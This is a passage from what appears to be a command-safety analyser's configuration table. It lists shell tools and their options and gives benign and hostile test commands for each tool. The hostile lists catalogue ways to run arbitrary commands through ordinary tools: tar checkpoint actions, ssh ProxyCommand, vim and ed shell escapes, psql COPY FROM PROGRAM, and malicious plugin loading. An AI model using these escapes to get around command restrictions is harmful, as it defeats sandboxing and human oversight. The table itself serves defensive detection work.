      '-k --keep-order -q --quote -u --ungroup --group --tag --cleanup --pipe --pipepart --regexp --eta --progress --bar --dry-run -0 --null --line-buffer --lb --will-cite --plus --shuf --csv --controlmaster --retry-failed --resume --resume-failed --semaphore --fg --bg --wait --onall --nonall --record-env --transferfile --tf --trc --transfer -X -m -v --verbose --no-notice --xargs --fast -r --no-run-if-empty --tee --files --compress --linebuffer --silent --tmux --tmuxpane --noswap --shebang --shebang-wrap --version':
        'flag',
    },
    pos: { parallel: true },
    benign: ['parallel -j4 gzip ::: a.txt b.txt'],
    hostile: ["parallel '{P}' ::: 1", "parallel ::: '{P}'", "parallel --ssh '{P}' -S host true ::: 1"],
  },
  {
    names: ['tmux', 'tmate'],
    exec: true,
    chainSep: ';',
    lang: 'tmux',
    opts: { ...HV, '-c': 'shell', '-f': 'script', '-L -S -T': 'value', '-2 -C -CC -D -l -N -u -v -V': 'flag' },
    subs: {
      'new-session new': { opts: { '-c -e -f -F -n -s -t -x -y': 'value', '-A -d -D -E -P -X': 'flag' }, pos: { wordsAt: 0 }, exec: true },
      'new-window neww': { opts: { '-c -e -F -n -t': 'value', '-a -b -d -k -P -S': 'flag' }, pos: { wordsAt: 0 }, exec: true },
      'split-window splitw': { opts: { '-c -e -l -p -t -F': 'value', '-b -d -f -h -I -v -P -Z': 'flag' }, pos: { wordsAt: 0 }, exec: true },
      'respawn-pane respawnp respawn-window respawnw': { opts: { '-c -e -t': 'value', '-k': 'flag' }, pos: { wordsAt: 0 }, exec: true },
      'display-popup popup': { opts: { '-b -c -d -e -h -s -S -t -T -w -x -y': 'value', '-B -C -E -EE -k': 'flag' }, pos: { wordsAt: 0 }, exec: true },
      'run-shell run': { opts: { '-c -d -t': 'value', '-b -C': 'flag' }, pos: { shellAt: 0 }, exec: true },
      'if-shell if': { opts: { '-t': 'value', '-b -F': 'flag' }, pos: { shellAt: 0, bangAt: 1 }, exec: true },
      'pipe-pane pipep': { opts: { '-t': 'value', '-I -O -o': 'flag' }, pos: { wordsAt: 0 }, exec: true },
      'send-keys send': { opts: { '-N -t': 'value', '-F -H -K -l -M -R -X': 'flag' }, pos: { keysAt: 0 }, exec: true },
      'source-file source': { opts: { '-t': 'value', '-F -n -q -v': 'flag' }, pos: { scriptAt: 0 }, exec: true },
      'set-option set set-window-option setw set-hook command-prompt confirm-before bind-key bind': { strict: false, pos: { bangAt: 0 }, exec: true },
    },
    benign: ['tmux ls', 'tmux kill-session -t dev', 'tmux capture-pane -p -t dev'],
    hostile: ["tmux new-session -d -s x '{P}'", "tmux -c '{P}'", "tmux new-window -d '{P}'", "tmux run-shell '{P}'", "tmux split-window -h '{P}'", 'tmux new -d {A}', "tmux send-keys -t x '{P}' Enter", "tmux if-shell '{P}' ls"],
  },
  {
    names: ['screen'],
    exec: true,
    lang: 'screen',
    opts: {
      ...HV,
      '-s': 'program',
      '-c': 'script',
      '-X': 'bangrest',
      '-S -e -h -p -t -T -Logfile': 'value',
      '-a -A -d -m -f -fa -fn -i -l -ln -L -O -U -q -v -4 -6': 'flag',
      '-r -R -RR -x -D -DD -ls -list -wipe -Q': 'noexec',
    },
    pos: { argvAt: 0, defaultShell: true },
    benign: ['screen -ls'],
    hostile: ['screen -dmS x {A}', "screen -S x -X stuff '{P}'", "screen -s '{P}' -dm", "screen -S x -X exec '{P}'"],
  },
  {
    names: ['script'],
    exec: true,
    opts: {
      ...HV,
      '-c --command': 'shell',
      '-T --log-timing -I --log-in -O --log-out -B --log-io -t? --timing?': 'write',
      '-m --logging-format -o --output-limit -E --echo': 'value',
      '-a --append -e --return -f --flush -q --quiet --force': 'flag',
    },
    pos: { defaultShell: true },
    benign: ["script -q -c 'make test' /dev/null"],
    hostile: ["script -q -c '{P}' /dev/null", "script -qc '{P}'"],
  },
  {
    names: ['su', 'runuser'],
    exec: true,
    opts: {
      ...HV,
      '-c --command --session-command': 'shell',
      '-s --shell': 'program',
      '-g --group -G --supp-group -w --whitelist-environment': 'value',
      '-u= --user=': 'argvmode',
      '-l --login -m -p --preserve-environment -P --pty -f --fast -': 'flag',
    },
    pos: { defaultShell: true, modeArgvAt: 0 },
    benign: [],
    hostile: ["su -c '{P}'", "su root -c '{P}'", 'runuser -u nobody -- {A}', "su -s '{P}' nobody"],
  },
  {
    names: ['sg'],
    exec: true,
    opts: { ...HV, '-c': 'flag' },
    pos: { wordsAt: 1, defaultShell: true },
    benign: [],
    hostile: ["sg wheel '{P}'", "sg wheel -c '{P}'"],
  },
  {
    names: ['command'],
    exec: true,
    style: 'plain',
    opts: { '-p': 'flag', '-v -V': 'noexec' },
    pos: { argvAt: 0 },
    benign: ['command -v node', 'command ls -la'],
    hostile: ['command {A}', 'command -p {A}'],
  },
  {
    names: ['exec'],
    exec: true,
    style: 'plain',
    opts: { '-a': 'value', '-c -l': 'flag' },
    pos: { argvAt: 0 },
    benign: ['exec node server.js'],
    hostile: ['exec {A}', 'exec -a x {A}'],
  },
  {
    names: ['at', 'batch'],
    exec: true,
    stdin: 'shell',
    opts: { ...HV, '-f': 'script', '-q -t': 'value', '-m -M -b -v': 'flag', '-l -r -d -c': 'noexec' },
    benign: [],
    hostile: ["echo '{P}' | at now", 'at -f /tmp/x.sh now'],
  },

  // ---------------------------------------------------------------- archivers and file tools
  {
    names: ['tar', 'gtar'],
    exec: true,
    opts: {
      '--checkpoint-action': { keys: [[/^exec=([\s\S]*)$/, 'shell']] },
      '-I --use-compress-program --rsh-command --rmt-command': 'program',
      '--to-command': 'shell',
      '-F --info-script --new-volume-script': 'shell',
      '-f --file': { keys: [[/^((?:[^/:@]+@)?[^/:]+:[\s\S]*)$/, 'net']] },
      [TAR_VALUES]: 'value',
      [TAR_FLAGS]: 'flag',
    },
    pos: {},
    benign: ['tar -czf /tmp/dist.tgz dist', 'tar xzf archive.tar.gz -C out', 'tar -tvf a.tar'],
    hostile: ["tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='{P}'", "tar -xf a.tar -I '{P}'", "tar -xf a.tar --to-command='{P}'", "tar -cf x.tar --use-compress-program '{P}' .", "tar --checkpoint-act=exec='{P}' -cf x.tar .", "tar cf x.tar -F '{P}' ."],
  },
  {
    names: ['zip'],
    exec: true,
    style: 'gnu',
    opts: {
      ...HV,
      '-TT --unzip-command': 'program',
      '-b --temp-path -n --suffixes -t --from-date -tt --before-date -P --password -O --output-file -Z --compression-method -s --split-size -sp -sb -i --include -x --exclude -ds -la -lf -li -ll? -sc -sd -so -sf? -ws -db -dc -dd -dg -du -dv -FF -Cp -Cl -@@ -MM -mm -st -sv -I -II -nw -du -ic -AC -AS -UN -ve -lu -lg -lw':
        'value',
      '-0 -1 -2 -3 -4 -5 -6 -7 -8 -9 -A -c -d -D -e -f -F -g -h -h2 -j -J -k -l -L -m -o -q -r -R -S -T -u -v -w -X -y -z -@ -$ --recurse-paths --quiet --test --junk-paths --symlinks --encrypt --grow --move --freshen --update --delete --verbose --no-extra --fix --fixfix --copy-entries --latin1 --from-crlf --to-crlf --adjust-sfx --entry-comments --archive-comment --no-dir-entries --no-wild --recurse-patterns --show-files':
        'flag',
    },
    benign: ['zip -r out.zip dist', 'zip -q -r build.zip . -x "*.git*"'],
    hostile: ["zip /tmp/x.zip /etc/hosts -T -TT '{P}'", "zip x.zip a -T --unzip-command='{P}'"],
  },
  {
    names: ['rsync'],
    exec: true,
    opts: {
      ...HV,
      '-e --rsh --rsync-path': 'shell',
      '--files-from --exclude-from --include-from --password-file --filter -f --read-batch --checksum-seed --compare-dest --copy-dest --link-dest': 'value',
      '--log-file --write-batch --only-write-batch --temp-dir -T --partial-dir --backup-dir': 'value',
      '--exclude --include --max-size --min-size --max-delete --modify-window --timeout --contimeout --bwlimit --chmod --chown --usermap --groupmap --suffix --out-format --log-file-format --port --sockopts --protocol --iconv --info --debug --skip-compress --compress-choice --zc --compress-level --zl --checksum-choice --cc -B --block-size --address --remote-option -M --mkpath? --outbuf --stop-after --stop-at --copy-as --early-input -@ --max-alloc':
        'value',
      '-v --verbose -q --quiet -c --checksum -a --archive -r --recursive -R --relative --no-implied-dirs -b --backup -u --update --inplace --append --append-verify -d --dirs -l --links -L --copy-links --copy-unsafe-links --safe-links -k --copy-dirlinks -K --keep-dirlinks -H --hard-links -p --perms -E --executability -A --acls -X --xattrs -o --owner -g --group --devices --specials -D -t --times -O --omit-dir-times -J --omit-link-times --super --fake-super -S --sparse -n --dry-run -W --whole-file -x --one-file-system -C --cvs-exclude --existing --ignore-existing --remove-source-files --del --delete --delete-before --delete-during --delete-delay --delete-after --delete-excluded --ignore-errors --force --partial --delay-updates -m --prune-empty-dirs --numeric-ids --ignore-times -I --size-only --fuzzy -y -z --compress --from0 -0 --protect-args -s --blocking-io --stats -8 --8-bit-output -h --human-readable --progress -P -i --itemize-changes --list-only --ipv4 -4 --ipv6 -6 --no-motd --open-noatime --no-o --no-g --no-p --no-t --no-perms --no-owner --no-group --no-times --no-r --no-recursive --no-R --no-relative -F --msgs2stderr --no-msgs2stderr --atimes -U --crtimes -N --trust-sender --secluded-args --old-args --preallocate --delete-missing-args --ignore-missing-args --chmod? --times? --mkpath --no-inc-recursive --no-i-r --old-dirs --numeric-ids':
        'flag',
    },
    benign: ['rsync -av --delete dist/ build/', 'rsync -az --exclude node_modules src/ backup/'],
    hostile: ["rsync -e '{P}' x:y .", "rsync --rsh='{P}' a b:c", "rsync --rsync-path='{P}' a host:b"],
  },
  {
    names: ['cpio'],
    exec: true,
    opts: {
      ...HV,
      '--rsh-command': 'program',
      '-F --file -O -I -E --pattern-file -H --format -M --message -C --io-size -R --owner --block-size -D --directory -W --warning --to-stdout?': 'value',
      '-o --create -i --extract -p --pass-through -t --list -a --reset-access-time -A --append -b --swap -B -c -d --make-directories -f --nonmatching -l --link -L --dereference -m --preserve-modification-time -n --numeric-uid-gid -r --rename -s --swap-bytes -S --swap-halfwords -u --unconditional -v --verbose -V --dot -0 --null --quiet --no-absolute-filenames --absolute-filenames --no-preserve-owner --only-verify-crc --sparse --device-independent --reproducible --force-local --ignore-devno --renumber-inodes --rename-batch-file':
        'flag',
    },
    benign: ['cpio -idmv < archive.cpio'],
    hostile: ["cpio -o --rsh-command='{P}' -F host:/x < /dev/null"],
  },
  {
    names: ['split'],
    exec: true,
    opts: {
      ...HV,
      '--filter': 'shell',
      '-a --suffix-length --additional-suffix -b --bytes -C --line-bytes -l --lines -n --number -t --separator -d? --numeric-suffixes? -x? --hex-suffixes?': 'value',
      '-e --elide-empty-files -u --unbuffered --verbose': 'flag',
    },
    benign: ['split -l 1000 big.csv part_'],
    hostile: ["split --filter='{P}' /etc/hosts"],
  },

  // ---------------------------------------------------------------- pagers, editors, viewers
  {
    names: ['less', 'zless', 'lessfile'],
    exec: true,
    lang: 'less',
    opts: PAGER_OPTS,
    pos: { plusBang: true },
    benign: ['less README.md', 'less -R +G log.txt'],
    hostile: ["less '+!{P}' /etc/hosts"],
  },
  {
    names: ['more', 'pg'],
    exec: true,
    opts: { ...HV, '-n --lines': 'value', '-d --silent -l --logical -e --exit-on-eof -f --no-pause -p --print-over -c --clean-print -s --squeeze -u --plain -r -e': 'flag' },
    benign: ['more README.md'],
    hostile: [{ cmd: 'more $X', expectExec: 'more' }],
  },
  {
    names: ['man'],
    exec: true,
    opts: {
      ...HV,
      '-P --pager -H? --html?': 'program',
      '-X? --gxditview? -T? --troff-device?': 'value',
      '-C --config-file': 'script',
      '-M --manpath -S -s --sections -m --systems -L --locale -E --encoding -R --recode -e --extension -r --prompt -p --preprocessor': 'value',
      '-a --all -d --debug -D --default -i --ignore-case -I --match-case -K --global-apropos -l --local-file -u --update -Z --ditroff -t --troff -7 --ascii -c --catman -f --whatis -k --apropos -w --where --path -W --where-cat --location-cat --regex --wildcard --names-only --no-subpages --nh --no-hyphenation --nj --no-justification --no-warnings':
        'flag',
    },
    benign: ['man ls', 'man -k printf'],
    hostile: ["man -P '{P}' ls", "man '-H{P}' man", "man --pager='{P}' ls"],
  },
  {
    names: ['vim', 'vi', 'nvim', 'view', 'vimdiff', 'rvim', 'rview', 'gvim', 'evim', 'vimx', 'vim.basic', 'vim.tiny'],
    exec: true,
    lang: 'ex',
    opts: VIM_OPTS,
    pos: { plusBang: true },
    benign: ['vim -c ":wq" file.txt', 'vi +10 main.c'],
    hostile: ["vim -c ':!{P}' /dev/null", "vi -c ':silent !{P}' -c ':q'", "vim '+!{P}' x", "vim --cmd ':!{P}'", "vim -c ':call system(\"id\")'", 'vim -S /tmp/x.vim'],
  },
  {
    names: ['ex'],
    exec: true,
    lang: 'ex',
    stdin: 'lang',
    opts: { ...VIM_OPTS, '-s': 'flag' },
    pos: { plusBang: true },
    benign: ["ex -s -c '%s/a/b/g' -c 'wq' file.txt"],
    hostile: ["ex -c ':!{P}'", "echo ':!{P}' | ex -s"],
  },
  {
    names: ['nano', 'pico', 'rnano'],
    exec: true,
    strict: false,
    opts: { ...HV, '-s --speller': 'program', '-f --rcfile': 'script', '-o --operatingdir -Y --syntax -T --tabsize -r --fill -C --backupdir -Q --quotestr -X --wordchars -J --guidestripe': 'value' },
    benign: ['nano -l README.md'],
    hostile: ["nano -s '{P}' /etc/hosts"],
  },
  {
    names: ['emacs', 'emacsclient'],
    exec: true,
    codeLang: 'elisp',
    strict: false,
    opts: { ...HV, '--eval -eval -f --funcall -funcall': 'code', '-l --load -load --script -script': 'script', '-a --alternate-editor': 'program', '--chdir --display -d --socket-name -s': 'value' },
    benign: ['emacs --version'],
    hostile: ["emacs -Q -nw --eval '(shell-command \"{P}\")'", 'emacs --script /tmp/x.el'],
  },
  {
    names: ['ed', 'red'],
    exec: true,
    lang: 'bangline',
    stdin: 'lang',
    opts: { ...HV, '-p --prompt': 'value', '-E --extended-regexp -G --traditional -l --loose-exit-status -r --restricted -s --quiet --silent -v --verbose --strip-trailing-cr': 'flag' },
    benign: [],
    hostile: ["echo '!{P}' | ed -s", "ed -s file <<< '!{P}'"],
  },
  {
    names: ['dc'],
    exec: true,
    lang: 'bangline',
    stdin: 'lang',
    opts: { ...HV, '-e --expression': 'bang', '-f --file': 'script' },
    pos: { scriptAt: 0 },
    benign: ["dc -e '2 3 + p'"],
    hostile: ["dc -e '!{P}'"],
  },
  {
    names: ['m4'],
    exec: true,
    lang: 'm4',
    stdin: 'lang',
    opts: {
      ...HV,
      '-D --define -U --undefine -I --include -L --nesting-limit -F --freeze-state -R --reload-state -o --error-output --debugfile? -d? --debug? -l --arglength -t --trace --warn-macro-sequence?': 'value',
      '-E --fatal-warnings -e --interactive -i -P --prefix-builtins -Q --quiet --silent -s --synclines -G --traditional -g --gnu': 'flag',
    },
    pos: { scriptAt: 0 },
    benign: [],
    hostile: ["echo 'esyscmd({P})' | m4"],
  },
  {
    names: ['ftp', 'tftp', 'ncftp', 'psftp', 'pftp', 'telnet'],
    exec: true,
    strict: false,
    lang: 'bangline',
    stdin: 'lang',
    opts: { ...HV, '-P -s -m': 'value' },
    pos: { netAt: 0 },
    benign: [],
    hostile: ["echo '!{P}' | ftp -n localhost"],
  },
  {
    names: ['lftp'],
    exec: true,
    strict: false,
    lang: 'bangline',
    stdin: 'lang',
    opts: { ...HV, '-c -e': 'bang', '-f': 'script', '-u -p': 'value', '-d --norc --rcfile': 'flag' },
    pos: { netAt: 0 },
    benign: [],
    hostile: ["lftp -c '!{P}'", "lftp -e '!{P}' localhost"],
  },
  {
    names: ['sftp'],
    exec: true,
    lang: 'bangline',
    stdin: 'lang',
    opts: { ...HV, ...SSH_SHARED, '-S -D -s': 'program', '-b': 'script', '-l -P -R -B -X': 'value', '-N -p -r -f -A -a': 'flag' },
    pos: { netAt: 0 },
    benign: [],
    hostile: ["sftp -S '{P}' host", "echo '!{P}' | sftp host", "sftp -o 'ProxyCommand={P}' host"],
  },
  {
    names: ['smbclient'],
    exec: true,
    strict: false,
    lang: 'bangline',
    opts: { ...HV, '-c --command': 'bang', '-U --user -W --workgroup -p --port -I --ip-address -m --max-protocol -n --netbiosname -s --configfile -A --authentication-file -D --directory -T --tar -O --socket-options -t --timeout': 'value' },
    pos: { netAt: 0 },
    benign: [],
    hostile: ["smbclient //host/share -c '!{P}'"],
  },
  {
    names: ['mail', 'mailx', 's-nail', 'bsd-mailx'],
    exec: true,
    strict: false,
    lang: 'bangline',
    opts: { ...HV, '-E --exec': 'bang', '-f --file': 'read', '-A --attach -a': 'read', '-s --subject -c --cc -b --bcc -r --return-address -u --user -q --quote -S --set': 'value' },
    benign: [],
    hostile: ["mail --exec='!{P}'", "mailx -E '!{P}'"],
  },

  // ---------------------------------------------------------------- debuggers and tracers (interpreters keep their own code)
  {
    names: ['gdb', 'gdb-multiarch', 'cgdb'],
    exec: true,
    lang: 'gdb',
    strict: false,
    opts: {
      ...HV,
      '-ex --eval-command -iex --init-eval-command': 'bang',
      '-x --command -ix --init-command': 'script',
      '--args': 'argv',
      '-p --pid -c --core -d --directory -s --symbols -e --exec -b -cd -tty -i -interpreter -D --data-directory': 'value',
      '-batch --batch -nx --nx -nh -q -quiet --quiet -silent -n -readnow --readnow -w -tui --tui -write': 'flag',
    },
    benign: ['gdb -batch -ex bt ./a.out core'],
    hostile: ["gdb -nx -ex '!{P}' -ex quit", "gdb -batch --eval-command='shell {P}'", "gdb -batch -iex 'pipe bt | {P}'", 'gdb -batch --args {A}'],
  },
  {
    names: ['awk', 'gawk', 'mawk', 'nawk'],
    exec: true,
    // Program files (-f, -E, -i and their long twins) go through the table's script rule in every spelling; the
    // interpreter analyser only learns from them that the first operand is not the program.
    legacy: ['-e', '--source', '(program text)'],
    opts: {
      ...HV,
      '-f --file -E --exec -i --include': 'script',
      '-e --source': 'code',
      '-l --load': 'library',
      '-F --field-separator -v --assign -W': 'value',
      '-b --characters-as-bytes -c --traditional -C --copyright -g --gen-pot -M --bignum -N --use-lc-numeric -n --non-decimal-data -O --optimize -P --posix -r --re-interval -s --no-optimize -S --sandbox -t --lint-old -k --csv -I --trace -d? --dump-variables? -D? --debug? -L? --lint? -o? --pretty-print? -p? --profile? --':
        'flag',
    },
    benign: ["awk '{print $1}' file.txt", "awk -F: -v OFS=, '{print $1,$3}' /etc/group"],
    hostile: ['awk \'BEGIN{system("{P}")}\'', "gawk -l /tmp/evil.so 'BEGIN{}'"],
  },

  {
    names: ['expect'],
    exec: true,
    codeLang: 'tcl',
    lang: 'tcl',
    opts: { ...HV, '-c': 'code', '-f': 'script', '-D': 'value', '-b -d -i -n -N -v': 'flag' },
    pos: { scriptAt: 0 },
    benign: ['expect -v'],
    hostile: ["expect -c 'spawn {P};interact'", "expect -c 'exec {P}'"],
  },
  {
    names: ['tclsh', 'wish', 'jimsh'],
    exec: true,
    strict: false,
    codeLang: 'tcl',
    lang: 'tcl',
    stdin: 'lang',
    pos: { scriptAt: 0 },
    benign: [],
    hostile: ["echo 'exec {P}' | tclsh", 'tclsh /tmp/x.tcl'],
  },

  // ---------------------------------------------------------------- database shells
  {
    names: ['sqlite3'],
    exec: true,
    style: 'single',
    lang: 'sqlite',
    stdin: 'lang',
    opts: {
      '-cmd': 'bang',
      '-init': 'script',
      '-separator -newline -nullvalue -mmap -vfs -maxsize -lookaside -pagecache -heap -A -nonce -escape -pcachetrace': 'value',
      '-append -ascii -bail -batch -box -column -csv -deserialize -echo -header -noheader -help -html -interactive -json -line -list -markdown -memtrace -nofollow -no-rowid-in-view -quote -readonly -safe -stats -table -tabs -unsafe-testing -utf8 -no-utf8 -version -zip -x':
        'flag',
    },
    pos: { bangAt: 1 },
    benign: ['sqlite3 app.db "SELECT count(*) FROM users;"', 'sqlite3 -header -csv app.db ".tables"'],
    hostile: ["sqlite3 /dev/null '.shell {P}'", "sqlite3 -cmd '.system {P}' x.db", "sqlite3 x.db '.once |{P}'", "sqlite3 x.db \"SELECT load_extension('/tmp/x.so');\""],
  },
  {
    names: ['psql'],
    exec: true,
    lang: 'psql',
    stdin: 'lang',
    opts: {
      ...HV,
      '-c --command': 'bang',
      '-f --file': 'script',
      '-o --output': { keys: [[/^\|([\s\S]*)$/, 'shell'], [/^([\s\S]*)$/, 'write']] },
      '-L --log-file': 'write',
      '-h --host': 'net',
      '-p --port -U --username -d --dbname -v --set --variable -P --pset -F --field-separator -R --record-separator -T --table-attr': 'value',
      '-a --echo-all -b --echo-errors -e --echo-queries -E --echo-hidden -l --list -n --no-readline -q --quiet -s --single-step -S --single-line -A --no-align --csv -H --html -t --tuples-only -x --expanded -z --field-separator-zero -0 --record-separator-zero -1 --single-transaction -w --no-password -W --password -X --no-psqlrc':
        'flag',
    },
    benign: ['psql --help', 'psql -d app -f backend/src/database/schema.sql', 'psql -h localhost -U postgres -c "SELECT 1"'],
    hostile: ["psql -c '\\! {P}'", "psql -o '|{P}' -c 'select 1'", "psql -c \"COPY t FROM PROGRAM '{P}'\""],
  },
  {
    names: ['mysql', 'mariadb'],
    exec: true,
    lang: 'mysql',
    stdin: 'lang',
    opts: {
      ...HV,
      '-e --execute': 'bang',
      '--pager?': 'program',
      '--default-auth --plugin-dir': 'library',
      '--defaults-file --defaults-extra-file': 'script',
      '--tee': 'write',
      '-h --host': 'net',
      '-u --user -P --port -D --database -S --socket --init-command --character-sets-dir --default-character-set --delimiter --protocol --connect-timeout --max-allowed-packet --net-buffer-length --select-limit --max-join-size --ssl-ca --ssl-cert --ssl-key --ssl-mode --ssl-cipher --tls-version --bind-address --login-path --defaults-group-suffix -p? --password?':
        'value',
      '-B --batch -N --skip-column-names -s --silent -t --table -v --verbose -X --xml -H --html -E --vertical -r --raw -q --quick -A --no-auto-rehash --auto-rehash -b --no-beep -C --compress -c --comments -f --force -G --named-commands -i --ignore-spaces -j --syslog -k --skip-line-numbers -L -n --unbuffered -o --one-database -w --wait --no-defaults --print-defaults --safe-updates --i-am-a-dummy --skip-pager --no-pager --no-tee --column-names --line-numbers --show-warnings --sigint-ignore --binary-mode --ssl --skip-ssl':
        'flag',
    },
    benign: ['mysql -u root -e "SHOW DATABASES;"'],
    hostile: ["mysql -e '\\! {P}'", "mysql -e 'system {P}'", "mysql --pager='{P}' -e 'select 1'", 'mysql --default-auth ../../../tmp/x'],
  },

  // ---------------------------------------------------------------- build tools, compilers, package managers
  {
    names: ['make', 'gmake'],
    exec: true,
    codeLang: 'make',
    opts: {
      ...HV,
      '-E --eval': 'code',
      '-f --file --makefile': 'script',
      '-C --directory -I --include-dir -o --old-file --assume-old -W --what-if --new-file --assume-new --jobserver-auth --jobserver-fds --jobserver-style --debug? -j? --jobs? -l? --load-average? --max-load? -O? --output-sync? --shuffle?':
        'value',
      '-b -m -B --always-make -d -e --environment-overrides -i --ignore-errors -k --keep-going -L --check-symlink-times -n --just-print --dry-run --recon -p --print-data-base -q --question -r --no-builtin-rules -R --no-builtin-variables -s --silent --quiet --no-silent -S --no-keep-going --stop -t --touch --trace -w --print-directory --no-print-directory --warn-undefined-variables':
        'flag',
    },
    pos: { keyed: { keys: [[/^(?:SHELL|MAKESHELL)\s*:?=\s*([\s\S]*)$/, 'program'], [/^\.SHELLFLAGS\s*:?=\s*([\s\S]*)$/, 'unsafe']] } },
    benign: ['make test', 'make -j8', 'make -C build', 'make -n build', 'make CC=clang all'],
    hostile: ["make --eval='x:;{P}' x", 'make -f /tmp/evil.mk', "make SHELL='{P}' all"],
  },
  {
    names: ['ninja'],
    exec: true,
    opts: { ...HV, '-f': 'script', '-C -j -k -l -d -t -w': 'value', '-n -v --verbose --quiet': 'flag' },
    benign: ['ninja -C build'],
    hostile: ['ninja -f /tmp/evil.ninja'],
  },
  {
    names: ['cmake'],
    exec: true,
    strict: false,
    opts: {
      ...HV,
      '-E': 'argv',
      '-P': 'script',
      '-C': 'script',
      '-S -B -G -T -A -D -U --build --install --preset --target --config --parallel? -j? --toolchain --install-prefix --log-level --graphviz --system-information --find-package --workflow --fresh --profiling-output --profiling-format --debug-find-pkg --debug-find-var --trace-source --trace-format --trace-redirect --warn-uninitialized':
        'value',
    },
    benign: ['cmake -S . -B build -DCMAKE_BUILD_TYPE=Release', 'cmake --build build -j 8'],
    hostile: ['cmake -E env X=1 {A}', 'cmake -P /tmp/evil.cmake'],
  },
  {
    names: ['gcc', 'g++', 'cc', 'c++', 'clang', 'clang++', 'c89', 'c99'],
    exec: true,
    style: 'single',
    strict: false,
    opts: { '-wrapper': 'program', '-fplugin -specs': 'library', '-B': 'library', '-o -x -I -L -l -D -U -include -isystem -imacros -MF -MT -MQ -Xlinker -Xassembler -Xpreprocessor': 'value' },
    benign: ['gcc -O2 -o main main.c', 'clang -Wall -c x.c'],
    hostile: ["gcc -wrapper '{P}' -x c /dev/null", 'gcc -fplugin=/tmp/evil.so x.c'],
  },
  {
    names: ['go'],
    exec: true,
    strict: false,
    opts: {
      '-exec -toolexec -vettool': 'program',
      '-ldflags': { keys: [[/(?:^|\s)--?extld[= ]([\s\S]+)/, 'program']] },
      '-overlay -modfile -C -o -tags -gcflags -asmflags -p -run -bench -timeout -count -coverprofile': 'value',
    },
    style: 'single',
    benign: ['go test ./...', 'go build -o bin/app ./cmd/app', 'go run main.go'],
    hostile: ["go test -exec '{P}' ./...", "go build -toolexec '{P}' .", "go build -ldflags '-linkmode=external -extld={P}' ."],
  },
  {
    names: ['cargo'],
    exec: true,
    strict: false,
    opts: {
      ...HV,
      '--config': {
        keys: [
          [/^(?:target\.[^=]+\.(?:runner|linker)|build\.(?:rustc|rustc-wrapper|rustc-workspace-wrapper|rustdoc)|(?:registry|registries\.[^=]+)\.credential-provider|credential-alias\.[^=]+|alias\.[^=]+|doc\.browser)\s*=\s*([\s\S]*)$/, 'program'],
          [/^([^=]+\.toml)$/, 'script'],
        ],
      },
      '-C --manifest-path --target-dir -j --jobs --target -p --package -F --features --bin --example --test --bench --profile --color --message-format -Z --explain': 'value',
    },
    benign: ['cargo build --release', 'cargo test -p core', 'cargo run --bin app'],
    hostile: ["cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"{P}\"' run", "cargo --config 'build.rustc-wrapper=\"{P}\"' build"],
  },
  {
    names: ['npm'],
    exec: true,
    strict: false,
    legacy: ['exec', 'x'],
    opts: {
      '--script-shell --shell': 'program',
      '-c --call': 'shell',
      '--node-options': { keys: [[/(?:^|\s)(?:--require|-r|--import|--loader|--experimental-loader)[= ]?(\S+)/, 'script']] },
      '--userconfig --globalconfig': 'script',
      '-C --prefix -w --workspace --registry --cache --tag --loglevel': 'value',
    },
    benign: ['npm test', 'npm run build', 'npm install --save-dev vitest'],
    hostile: ["npm --script-shell '{P}' run build", "npm exec -c '{P}'", "npm run build --script-shell='{P}'"],
  },
  {
    names: ['npx'],
    exec: true,
    strict: false,
    opts: { '-c --call': 'shell', '--script-shell --shell': 'program', '-p --package --registry --cache --prefix -w --workspace --loglevel': 'value', '-y --yes --no --no-install --ignore-existing -q --quiet': 'flag' },
    pos: { argvAt: 0, packageHead: true },
    benign: ['npx tsc --noEmit', 'npx -y prettier --check .', 'npx @playwright/test --version', 'npx vitest run'],
    hostile: ["npx -c '{P}'", 'npx {A}', "npx --shell '{P}' -c ls"],
  },
  {
    names: ['pnpm', 'yarn'],
    exec: true,
    strict: false,
    legacy: ['exec'],
    opts: { '--script-shell --shell': 'program', '-c --shell-mode': 'shell', '-C --dir --filter -F --registry --reporter --loglevel': 'value' },
    subs: { 'dlx x': { strict: false, pos: { argvAt: 0, packageHead: true }, exec: true } },
    benign: ['pnpm install', 'pnpm run test', 'yarn build', 'pnpm dlx create-vite app'],
    hostile: ["pnpm --script-shell '{P}' run build", 'pnpm dlx {A}'],
  },
  {
    names: ['pip', 'pip3'],
    exec: true,
    strict: false,
    opts: { '--editor': 'program', '--src --cache-dir --log --cert --client-cert --proxy --target -t --prefix --root -r --requirement -c --constraint': 'value' },
    benign: ['pip install -r requirements.txt', 'pip list'],
    hostile: ["pip config --editor '{P}' edit"],
  },
  {
    names: ['gem'],
    exec: true,
    strict: false,
    opts: { '-e --editor': 'program' },
    benign: ['gem list'],
    hostile: ["gem open -e '{P}' rake"],
  },
  {
    names: ['dpkg'],
    exec: true,
    strict: false,
    opts: { '-i --install --unpack --configure -A --record-avail --triggers-only -P --purge -r --remove': 'unsafe', '--instdir --admindir --root --force? --log --status-fd': 'value' },
    benign: ['dpkg -l', 'dpkg --print-architecture'],
    hostile: [{ cmd: 'dpkg -i /tmp/x.deb', expectExec: 'dpkg' }],
  },
  {
    names: ['apt-get', 'apt', 'aptitude', 'apt-cache'],
    exec: true,
    opts: APT_OPTS,
    benign: ['apt-get update', 'apt-get install -y --no-install-recommends jq', 'apt-cache policy git'],
    hostile: ["apt-get update -o APT::Update::Pre-Invoke::='{P}'", "apt-get install -y -o 'DPkg::Pre-Invoke::={P}' x", 'apt-get update -c /tmp/evil.conf'],
  },
  {
    names: ['rpm', 'rpmdb', 'rpmquery', 'rpmverify', 'rpmbuild'],
    exec: true,
    codeLang: 'rpm',
    strict: false,
    opts: { '--eval -E': 'code', '--pipe': 'shell', '--macros --rcfile': 'script', '-D --define': 'code', '-i --install -U --upgrade -F --freshen -e --erase --reinstall': 'unsafe', '--root --dbpath -q': 'value' },
    benign: ['rpm -qa'],
    hostile: ["rpm --eval '%({P})'", "rpm -qa --pipe '{P}'"],
  },

  // ---------------------------------------------------------------- network clients with execution hooks
  {
    names: ['ssh'],
    exec: true,
    opts: { ...HV, ...SSH_SHARED },
    pos: { netAt: 0, wordsAt: 1 },
    benign: ['ssh -V'],
    hostile: ["ssh -o 'ProxyCommand={P}' x", "ssh -o PermitLocalCommand=yes -o 'LocalCommand={P}' localhost", "ssh localhost '{P}'", "ssh -oProxyCommand='{P}' x", 'ssh -F /tmp/evil_config host'],
  },
  {
    names: ['scp'],
    exec: true,
